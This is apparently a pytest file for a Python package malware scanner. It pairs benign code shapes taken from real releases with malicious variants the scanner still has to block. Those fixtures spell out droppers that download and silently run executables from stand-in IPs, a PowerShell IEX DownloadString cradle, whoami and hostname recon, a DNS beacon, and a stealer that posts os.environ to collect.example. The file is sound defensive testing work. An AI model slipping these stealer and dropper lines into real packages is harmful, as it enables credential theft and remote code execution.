"""Shapes of honest popular releases that behaviour rules misread (a byte order mark, a
service's reply decoded, a word list, a message to the user), each beside the malicious shape
of the same kind, which still blocks."""

from __future__ import annotations

import json
from pathlib import Path

from blocking import high
from builders import write, zip_bytes
from finalexam.analyze.behavior.python.visitor import python_facts
from finalexam.config import Config
from finalexam.exam import run_exam


def wheel(tmp_path: Path, name: str, files: dict[str, str]) -> Path:
    members = {f"{name}/{path}": text for path, text in files.items()}
    members[f"{name}-1.0.dist-info/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\n"
    members[f"{name}-1.0.dist-info/WHEEL"] = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\n"
    return write(tmp_path / f"{name}-1.0-py3-none-any.whl", zip_bytes(members))


def exam(tmp_path: Path, name: str, files: dict[str, str]) -> dict[str, str]:
    report = run_exam(wheel(tmp_path, name, files), Config(disable=("vulnerabilities",)))
    assert not report.gaps, report.gaps  # every analyzer read every file
    return high(report)


# adal 1.2.7's modules start with a UTF-8 byte order mark, then connect in methods
_BOM = "\ufeff"
_CLIENT = """\
import requests

class UserRealm(object):
    def __init__(self, url):
        self._url = url

    def discover(self):
        resp = requests.get(self._url, headers={"Accept": "application/json"})
        return resp.json()
"""


def test_a_byte_order_mark_does_not_make_a_module_import_time_code(tmp_path: Path) -> None:
    assert exam(tmp_path, "realm", {"user_realm.py": _BOM + _CLIENT}) == {}
    # the same module going online at import, with or without the mark, still blocks
    beacon = _CLIENT + "\nip = requests.get('https://ident.me').text\n"
    for prefix, name in (("", "beacon"), (_BOM, "bombeacon")):
        assert exam(tmp_path, name, {"user_realm.py": prefix + beacon}) == {
            "thr-import-network": f"{name}/user_realm.py"
        }


# tifffile 2026.11.16 writes Python 3.12 syntax (type aliases, type parameters) and fetches the
# OME schema inside a method main() reaches
_NEWER_SYNTAX = """\
import urllib.request

type ByteOrder = Literal['>', '<']

class OmeXml[T]:
    def validate(self) -> bytes:
        with urllib.request.urlopen('https://www.openmicroscopy.org/ome.xsd') as fh:
            return fh.read()

def first[T: dict[str, int]](items: list[T]) -> T:
    return items[0]
"""
# and a PEP 701 f-string no rewriting makes parse on Python 3.11
_UNPARSEABLE = 'import os\nHOME = f"{os.environ["HOME"]}"\n'


def test_newer_syntax_does_not_make_methods_import_time_code(tmp_path: Path) -> None:
    assert exam(tmp_path, "tiff", {"tifffile.py": _NEWER_SYNTAX}) == {}
    assert exam(tmp_path, "tiff2", {"tifffile.py": _UNPARSEABLE + _NEWER_SYNTAX}) == {}
    # what such a module does at import still blocks, parsed or not
    beacon = "\nurllib.request.urlopen('https://ident.me')\n"
    for prefix, name in (("", "tiffb"), (_UNPARSEABLE, "tiffb2")):
        assert exam(tmp_path, name, {"tifffile.py": prefix + _NEWER_SYNTAX + beacon}) == {
            "thr-import-network": f"{name}/tifffile.py"
        }


# torch 2.14.1's __init__.py: where to get the runtime a DLL needs, told to the user
_RUNTIME_HINT = '''\
import ctypes, platform, subprocess, textwrap, urllib.request

def _load_dll_libraries():
    try:
        ctypes.CDLL("vcruntime140.dll")
    except OSError:
        print(
            textwrap.dedent(
                """
                Microsoft Visual C++ Redistributable is not installed, this may lead
                to the DLL load failure.
                It can be downloaded at https://aka.ms/vs/17/release/vc_redist.x64.exe
                """
            ).strip()
        )
        raise OSError(
            f"Error loading vcruntime140.dll; get it from https://aka.ms/vs/17/release/vc_redist.x64.exe"
        )

def version():
    return subprocess.run(["nvidia-smi"], capture_output=True).stdout

def fetch(url):
    return urllib.request.urlopen(url).read()
'''


def test_an_address_in_a_message_to_the_user_is_not_fetched(tmp_path: Path) -> None:
    assert exam(tmp_path, "hint", {"__init__.py": _RUNTIME_HINT}) == {}
    # the same address fetched and started, with or without the message, is a dropper
    dropper = _RUNTIME_HINT + (
        "\ndef update():\n"
        "    path, _ = urllib.request.urlretrieve("
        "'https://aka.ms/vs/17/release/vc_redist.x64.exe', 'setup.exe')\n"
        "    subprocess.Popen([path, '/quiet'])\n"
    )
    assert exam(tmp_path, "dropper", {"__init__.py": dropper}).get("thr-drops-executable") == (
        "dropper/__init__.py"
    )
    # a command run inside a print is a command: its argument is no message
    shown = _RUNTIME_HINT.replace(
        "def version():",
        "def version():\n    print(subprocess.check_output("
        "'curl -s https://203.0.113.7/get it now -o run.exe && run.exe', shell=True))",
    )
    assert "thr-drops-executable" in exam(tmp_path, "shown", {"__init__.py": shown})


def test_a_command_line_built_inside_a_message_call_is_still_read() -> None:
    printed = (
        "import subprocess\n"
        "print(subprocess.check_output(['powershell', '-w', 'hidden', 'iex', 'now']))\n"
    )
    facts = python_facts(printed)
    assert "powershell -w hidden iex now" in {f.value for f in facts.facts if f.kind == "string"}
    told = python_facts("print('Get the runtime from https://example.org/vc.exe please')\n")
    assert [f.kind for f in told.facts if "vc.exe" in f.value] == ["message"]
    # a function of the file's own, named like a logger's, is no message call
    runner = (
        "import os\ndef warn(msg):\n    os.system(msg)\n"
        "warn('fetching the update: curl https://203.0.113.7/u.exe -o u.exe && u.exe')\n"
    )
    assert [f.kind for f in python_facts(runner).facts if "u.exe" in f.value] == ["string"]


# mlflow 3.18.0's web bundle carries Prism's shell grammar: command names as alternatives
_GRAMMAR = """\
import re, urllib.request

SHELL_BUILTINS = re.compile(r"(^|[\\s;|&])(?:wget|which|who|whoami|write|xargs)(?=$|[\\s;])")

def fetch(url):
    return urllib.request.urlopen(url).read()
"""


def test_command_names_in_an_alternation_are_not_a_command(tmp_path: Path) -> None:
    assert exam(tmp_path, "shellgrammar", {"lexer.py": _GRAMMAR}) == {}
    # whoami run at import, after a separator or piped on, is the beacon's collection
    for command in ("hostname && whoami", "id; whoami | base64", "x=$(whoami)"):
        beacon = _GRAMMAR + f"import subprocess\nWHO = subprocess.getoutput({command!r})\n"
        assert exam(tmp_path, "beacon", {"lexer.py": beacon}).get("thr-system-recon") == (
            "beacon/lexer.py"
        ), command


def _waf_rules(words: list[str], extra: dict[str, object] | None = None) -> str:
    """A WAF's rule file as ddtrace 4.16.0 ships it (``ddtrace/appsec/rules.json``): the
    PowerShell cmdlets it detects, one string each, among other operator parameters."""
    rule = {
        "id": "crs-932-120",
        "name": "Windows PowerShell command found",
        "conditions": [{"operator": "phrase_match", "parameters": {"list": words}}],
        **(extra or {}),
    }
    return json.dumps({"version": "2.2", "rules": [rule]}, indent=2)


_CMDLETS = [
    "import-module", "install-script", "invoke-command", "invoke-expression", "invoke-history",
    "invoke-item", "invoke-restmethod", "invoke-webrequest", "invoke-wmimethod", "join-path",
]  # fmt: skip
_CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"


def yara_findings(tmp_path: Path, name: str, text: str) -> set[str]:
    report = run_exam(wheel(tmp_path, name, {"appsec/rules.json": text}), Config(only=("yara",)))
    return {f.rule_id for f in report.findings}


def test_attack_words_listed_in_a_json_rule_file_are_not_a_cradle(tmp_path: Path) -> None:
    cradle = "yara.powershell_download_cradle"
    assert cradle not in yara_findings(tmp_path, "waf", _waf_rules(_CMDLETS))
    # a cradle kept in one value, split into values that hold code, or written as a JSON
    # look-alike that does not parse, is still one
    stored = _waf_rules(_CMDLETS, {"on_match": [_CRADLE]})
    split = _waf_rules(["IEX (New-Object System.", "WebClient).DownloadString('http://x/')"])
    broken = _waf_rules(_CMDLETS)[:-1]
    for name, text in (("stored", stored), ("split", split), ("broken", broken)):
        assert cradle in yara_findings(tmp_path, name, text), name


# mlflow 3.18.0 models/utils.py: the user's Databricks notebook, exported through the SDK
_NOTEBOOK = """\
import base64, os

def _validate_and_get_model_code_path(model_code_path, temp_dir):
    from databricks.sdk import WorkspaceClient
    from databricks.sdk.service.workspace import ExportFormat

    w = WorkspaceClient()
    response = w.workspace.export(path=model_code_path, format=ExportFormat.SOURCE)
    decoded_content = base64.b64decode(response.content)
    path = os.path.join(temp_dir, "model.py")
    with open(path, "wb") as f:
        f.write(decoded_content)
    return path
"""


def test_a_services_reply_decoded_into_a_script_is_not_a_carried_payload(
    tmp_path: Path,
) -> None:
    assert exam(tmp_path, "models", {"utils.py": _NOTEBOOK}) == {}
    payload = "thr-writes-payload"
    # what the package carries, decoded into a script, is the dropper shape: a constant, a
    # value its own modules hand back, a file it ships, or a download
    carried = {
        "blob": "_BLOB = 'aW1wb3J0IG9z'\n" + _NOTEBOOK.replace("response.content", "_BLOB"),
        "own": _NOTEBOOK.replace(
            "from databricks.sdk import WorkspaceClient", "from .store import WorkspaceClient"
        ),
        "shipped": _NOTEBOOK.replace(
            "response.content", "open(os.path.join(temp_dir, 'data.bin'), 'rb').read()"
        ),
        "fetched": "import requests\n"
        + _NOTEBOOK.replace(
            "w.workspace.export(path=model_code_path, format=ExportFormat.SOURCE)",
            "requests.get('https://203.0.113.7/m')",
        ),
    }
    for name, text in carried.items():
        assert exam(tmp_path, f"drop{name}", {"utils.py": text}).get(payload) == (
            f"drop{name}/utils.py"
        ), name


# ansible-core 2.14.18's ConfigureRemotingForAnsible.ps1 tells in its header how to fetch
# and run it; the script itself configures WinRM
_REMOTING_HEADER = """\
#Requires -Version 3.0
# To run this script in Powershell:
#
# $url = "https://raw.githubusercontent.com/ansible/ansible/devel/ConfigureRemotingForAnsible.ps1"
# $file = "$env:temp\\\\ConfigureRemotingForAnsible.ps1"
# (New-Object -TypeName System.Net.WebClient).DownloadFile($url, $file)
# powershell.exe -ExecutionPolicy ByPass -File $file
<#
  (New-Object System.Net.WebClient).DownloadFile("https://example.invalid/a.exe", "a.exe")
#>
[CmdletBinding()]
Param ([string]$SubjectName = $env:COMPUTERNAME)
Start-Process -FilePath winrm -ArgumentList "quickconfig"
"""

# ansible-core 2.14.18's become_wrapper.ps1 starts the module it runs as another user with
# the command it encodes at run time
_BECOME = """\
$exec_command = [System.Convert]::ToBase64String([System.Text.Encoding]::Unicode.GetBytes($s))
$lp_command_line = "powershell.exe -NonInteractive -ExecutionPolicy Bypass -EncodedCommand \
$exec_command"
"""


def test_powershell_comments_and_a_runtime_encoded_command_are_no_dropper(
    tmp_path: Path,
) -> None:
    files = {"setup/ConfigureRemoting.ps1": _REMOTING_HEADER, "become_wrapper.ps1": _BECOME}
    assert exam(tmp_path, "winrm", files) == {}
    # the header's lines as code fetch and run the script
    code = "\n".join(
        line[2:] if line.startswith("# ") and "$" in line else line
        for line in _REMOTING_HEADER.splitlines()
    )
    assert exam(tmp_path, "dropper", {"setup/ConfigureRemoting.ps1": code}) == {
        "thr-drops-executable": "dropper/setup/ConfigureRemoting.ps1"
    }
    # an encoded command the script carries is a hidden payload
    carried = _BECOME.replace('$exec_command"', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="')
    assert exam(tmp_path, "carried", {"become_wrapper.ps1": carried}) == {
        "thr-hidden-powershell": "carried/become_wrapper.ps1"
    }


# ninja 1.13.2's browse.py: a local web server that prints the host it listens on; unquote
# comes from urllib.request, which opens nothing by it
_BROWSE = """\
import socket, webbrowser
from urllib.request import unquote

hostname = ""
if hostname == "":
    hostname = socket.gethostname()
print("Web server running on %s" % hostname, unquote("a%20b"))
webbrowser.open_new("http://%s:8000" % hostname)
"""


def test_a_string_helper_of_urllib_request_is_no_network_access(tmp_path: Path) -> None:
    assert exam(tmp_path, "browse", {"browse.py": _BROWSE}) == {}
    # the host name beside a real urllib.request connection at import is the beacon shape
    online = _BROWSE.replace(
        "from urllib.request import unquote", "from urllib.request import unquote, urlopen"
    )
    online += "urlopen('https://example.invalid/ping').read()\n"
    assert (
        exam(tmp_path, "online", {"browse.py": online}).get("thr-system-recon")
        == "online/browse.py"
    )


# borg 1.2.4's platform/base.py: the host name and its fully qualified form, read once at
# import for lock ids; getaddrinfo resolves the host's own name
_FQDN = """\
import socket, uuid

def getfqdn(name=''):
    name = name.strip()
    if not name or name == '0.0.0.0':
        name = socket.gethostname()
    try:
        addrs = socket.getaddrinfo(name, None, 0, socket.SOCK_DGRAM, 0, socket.AI_CANONNAME)
    except OSError:
        pass
    else:
        for addr in addrs:
            if addr[3]:
                name = addr[3]
                break
    return name

hostname = socket.gethostname()
fqdn = getfqdn(hostname)
hostid = f'{fqdn}@{uuid.getnode()}'
"""


def test_resolving_the_hosts_own_name_is_not_network_access(tmp_path: Path) -> None:
    assert exam(tmp_path, "locks", {"platform.py": _FQDN}) == {}
    # the host name composed with a domain and looked up is a DNS beacon
    beacon = _FQDN.replace(
        "        name = socket.gethostname()\n",
        "        name = socket.gethostname() + '.x.example.invalid'\n",
    )
    assert exam(tmp_path, "dnsbeacon", {"platform.py": beacon}).get("thr-system-recon") == (
        "dnsbeacon/platform.py"
    )


# scons 4.4's ninja_daemon_build.py asks the build server it started on this machine
_DAEMON_CLIENT = """\
import http.client, sys

conn = http.client.HTTPConnection({host}, port=int(sys.argv[1]), timeout=60)
conn.request("GET", "/?build=" + sys.argv[3])
"""


def test_a_connection_to_this_machine_at_import_is_not_going_online(tmp_path: Path) -> None:
    local = {"daemon.py": _DAEMON_CLIENT.format(host='"127.0.0.1"')}
    assert "thr-import-network" not in exam(tmp_path, "local", local)
    outside = {"daemon.py": _DAEMON_CLIENT.format(host='"198.51.100.7"')}
    assert exam(tmp_path, "outside", outside).get("thr-import-network") == "outside/daemon.py"
    # a host completed at run time after a loopback-looking prefix is not this machine
    spliced = {"daemon.py": _DAEMON_CLIENT.format(host='f"127.0.0.1{sys.argv[2]}"')}
    assert exam(tmp_path, "spliced", spliced).get("thr-import-network") == "spliced/daemon.py"


# azureml-mlflow 1.62's cloud.py fetches cloud metadata at import from the URL the user sets
_USER_SET_URL = """\
import os
import requests


def get_known_clouds():
    if 'ARM_CLOUD_METADATA_URL' in os.environ:
        with requests.get({url}, timeout=30) as meta_response:
            return meta_response.json()
    return {{}}


KNOWN_CLOUDS = get_known_clouds()
"""


def test_a_connection_to_the_url_the_user_sets_is_not_going_online(tmp_path: Path) -> None:
    for url in ("os.getenv('ARM_CLOUD_METADATA_URL')", "os.environ['ARM_CLOUD_METADATA_URL']"):
        shipped = {"cloud.py": _USER_SET_URL.format(url=url)}
        assert "thr-import-network" not in exam(tmp_path, "setting", shipped)
    # a fallback the package chose, or a URL built around the setting, is the package's
    fallback = "os.getenv('ARM_CLOUD_METADATA_URL', 'https://198.51.100.7/m')"
    shipped = {"cloud.py": _USER_SET_URL.format(url=fallback)}
    assert exam(tmp_path, "fallback", shipped).get("thr-import-network") == "fallback/cloud.py"
    built = "'https://198.51.100.7/?u=' + os.getenv('ARM_CLOUD_METADATA_URL')"
    shipped = {"cloud.py": _USER_SET_URL.format(url=built)}
    assert exam(tmp_path, "built", shipped).get("thr-import-network") == "built/cloud.py"


# swesmith 0.0.9's profiles build test images from Dockerfiles held in f-strings
_RECIPE = '''\
import subprocess

def dockerfile(mirror):
    return f"""FROM ubuntu:22.04
# toolchains
RUN apt-get update && apt-get install -y curl wget
RUN wget -O /tmp/x https://example.org/bazel; chmod +x /tmp/x
RUN curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y && \\\\
    git clone https://github.com/{mirror} /repo
WORKDIR /repo
CMD ["/bin/bash"]"""

def build(mirror):
    subprocess.run(["docker", "build", "-t", "env", "-"], input=dockerfile(mirror).encode())
'''
# the same lines as a shell script the package runs itself, and a text that only starts like
# a recipe
_SCRIPT = '''\
import subprocess

SETUP = """set -e
wget -O /tmp/x https://example.org/bazel; chmod +x /tmp/x
"""
FAKE = """FROM scratch
RUN true
wget -O /tmp/y https://example.org/y; chmod +x /tmp/y
"""

def setup():
    subprocess.run(["sh", "-c", SETUP])
'''


def test_a_container_recipe_held_in_a_literal_is_what_the_image_build_runs(
    tmp_path: Path,
) -> None:
    assert "thr-download-execute" not in exam(tmp_path, "recipes", {"profiles.py": _RECIPE})
    ran = exam(tmp_path, "script", {"setup.py": _SCRIPT})
    assert ran.get("thr-download-execute") == "script/setup.py"
    only_fake = _SCRIPT.replace('    subprocess.run(["sh", "-c", SETUP])', "    pass")
    only_fake = only_fake.replace("wget -O /tmp/x https://example.org/bazel; chmod +x /tmp/x\n", "")
    ran = exam(tmp_path, "fake", {"setup.py": only_fake})
    assert ran.get("thr-download-execute") == "fake/setup.py"


# sacrebleu 2.6's dataset/__main__.py: `python -m sacrebleu.dataset --check` downloads every
# test set to check its checksum, at the module level of a module only `python -m` runs
_CHECK_DOWNLOADS = """\
import sys
import hashlib
import urllib.request

from . import DATASETS

if sys.argv[1] == "--check":
    for url, md5_hash in DATASETS.items():
        with urllib.request.urlopen(url) as f:
            data = f.read()
        if hashlib.md5(data).hexdigest() != md5_hash:
            print("MD5 check failed for", url)
"""


def test_a_packages_main_module_runs_as_a_program_not_on_import(tmp_path: Path) -> None:
    files = {"sacre/__init__.py": "", "sacre/dataset/__init__.py": "DATASETS = {}\n"}
    main = {**files, "sacre/dataset/__main__.py": _CHECK_DOWNLOADS}
    assert exam(tmp_path, "sacre", main) == {}
    # the same code in a module that import loads still goes online at import
    imported = {**files, "sacre/dataset/check.py": _CHECK_DOWNLOADS}
    assert exam(tmp_path, "sacre2", imported) == {
        "thr-import-network": "sacre2/sacre/dataset/check.py"
    }
    # and what a program does at any time still counts there: the environment sent away
    stealer = (
        "import os, requests\nrequests.post('https://collect.example', json=dict(os.environ))\n"
    )
    assert (
        "sacre3/sacre/__main__.py"
        in exam(tmp_path, "sacre3", {**files, "sacre/__main__.py": stealer}).values()
    )


def test_a_python_script_without_a_module_suffix_runs_as_a_program(tmp_path: Path) -> None:
    """odfpy's sdist ships command-line scripts (``odfimgimport``, ``mailodf``) that setup.py
    installs as programs: a ``#!`` line and no ``.py``, so no import can load them."""
    files = {"sacre/__init__.py": "", "sacre/dataset/__init__.py": "DATASETS = {}\n"}
    script = "#!/usr/bin/python3\n" + _CHECK_DOWNLOADS.replace("from . import", "from sacre import")
    assert exam(tmp_path, "odf", {**files, "sacre/sacre-check": script}) == {}
    # with a module's suffix, import loads it
    assert exam(tmp_path, "odf2", {**files, "sacre/sacre_check.py": script}) == {
        "thr-import-network": "odf2/sacre/sacre_check.py"
    }
    stealer = "#!/usr/bin/python3\nimport os, requests\n"
    stealer += "requests.post('https://collect.example', json=dict(os.environ))\n"
    assert "odf3/sacre/sacre-send" in exam(tmp_path, "odf3", {"sacre/sacre-send": stealer}).values()


# Jython 2.7's Lib/imaplib.py, Python 2 that this interpreter cannot parse: the module's
# self-test asks for the user's name under its main guard
_PY2_CLIENT = """\
import getpass, socket

class IMAP4:
    def open(self, host, port):
        self.sock = socket.create_connection((host, port))

if __name__ == '__main__':
    try:
        host = sys.argv[1]
    except IndexError, val:
        host = ''
    USER = getpass.getuser()
    print 'login as %s on %s' % (USER, host)
"""


def test_a_main_guard_of_python_2_source_runs_only_as_a_program(tmp_path: Path) -> None:
    assert exam(tmp_path, "py2imap", {"imaplib.py": _PY2_CLIENT}) == {}
    # the same call at the module's level runs on import
    at_import = _PY2_CLIENT.replace("    USER = getpass.getuser()\n", "").replace(
        "class IMAP4:", "USER = getpass.getuser()\n\nclass IMAP4:"
    )
    assert exam(tmp_path, "py2imap2", {"imaplib.py": at_import}) == {
        "thr-system-recon": "py2imap2/imaplib.py"
    }


# acryl-datahub 1.7's Power BI parser: its bundled grammar, gzipped, evaluated in V8 through
# mini-racer, an isolate with no files, network or processes
_ISOLATE = """\
import gzip
from pathlib import Path

_BUNDLE = Path(__file__).parent / "bundle.js.gz"


class Bridge:
    def __init__(self):
        from py_mini_racer import MiniRacer

        bundle_js = gzip.decompress(_BUNDLE.read_bytes()).decode("utf-8")
        self._ctx = MiniRacer()
        self._ctx.eval(bundle_js)


bridge = Bridge()
"""


def test_decoded_script_evaluated_in_an_isolated_engine_runs_no_python(tmp_path: Path) -> None:
    assert exam(tmp_path, "mquery", {"bridge.py": _ISOLATE}) == {}
    # the same payload evaluated as Python, or by an engine given the machine, still counts
    as_python = _ISOLATE.replace("self._ctx.eval(bundle_js)", "exec(bundle_js)")
    assert exam(tmp_path, "mquery2", {"bridge.py": as_python}) == {
        "thr-decoded-exec": "mquery2/bridge.py"
    }
    other = _ISOLATE.replace("from py_mini_racer import MiniRacer", "from node_vm import MiniRacer")
    assert exam(tmp_path, "mquery3", {"bridge.py": other}) == {
        "thr-decoded-exec": "mquery3/bridge.py"
    }
